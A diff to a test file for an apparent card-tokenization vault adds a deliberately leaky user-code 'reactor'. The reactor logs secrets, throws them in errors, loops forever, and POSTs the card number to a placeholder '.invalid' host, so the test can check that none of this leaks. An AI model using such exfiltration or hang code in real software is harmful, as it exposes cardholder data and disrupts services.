@@ -15,6 +15,8 @@ const marks = {
   query: 'QueryString-3307-Ocelot',
   header: 'HeaderValue-9920-Ibex',
   bad: 'BadBody-4471-Tapir',
+  code: 'CodeSecret-8835-Okapi',
+  callback: 'CallbackPath-2298-Dingo',
 }
 
 /** The spellings a value could be hiding in. */
@@ -86,6 +88,40 @@ t.test('a day of calls leaves no plaintext in any file, log or metric', { timeou
   )
   t.equal(proxied.status, 200, proxied.text)
   t.match(proxied.text, marks.card, 'the destination received the number')
+
+  const reactor = await vault.call('POST', '/reactors', {
+    key: vault.managementKey,
+    body: {
+      name: 'leaks what it can',
+      configuration: { secret: marks.code },
+      code: `const secret = '${marks.code}'
+        module.exports = async ({ args, configuration }) => {
+          console.log(args, configuration, secret)
+          if (args.then === 'throw') throw new (require('sidevault').ReactorRuntimeError)(args.number + secret)
+          if (args.then === 'fetch') await fetch('https://${marks.query}.invalid/' + args.number, { method: 'POST', body: args.number })
+          if (args.then === 'loop') for (;;) {}
+          return { raw: { args, secret }, tokenize: { again: args.number } }
+        }`,
+    },
+  })
+  t.equal(reactor.status, 201, reactor.text)
+  const react = (then: string, path = 'react', more: object = {}) =>
+    call('POST', `/reactors/${reactor.json.id}/${path}`, {
+      args: { number: `{{ ${card.json.id} | json: '$.number' }}`, text: marks.text, then },
+      ...more,
+    })
+  t.match((await react('return')).text, marks.card, 'raw is plain')
+  t.equal((await react('throw')).status, 500)
+  t.equal((await react('fetch')).status, 400)
+  t.equal((await react('loop')).status, 400)
+  const callback = { callback_url: `https://${marks.callback.toLowerCase()}.invalid/${marks.callback}` }
+  for (const then of ['return', 'throw']) {
+    const { asyncReactorRequestId: id } = (await react(then, 'react-async', callback)).json
+    const result = () => call('GET', `/reactors/${reactor.json.id}/results/${id}`)
+    let answer = await result()
+    while (answer.status === 404) answer = await result()
+    t.match(answer.text, marks.code, 'the result is there')
+  }
 
   const failures: [string, string, unknown, Record<string, string>?][] = [
     ['POST', '/tokens', { type: 'card', data: { number: `${marks.card}0`, cvc: marks.bad } }],
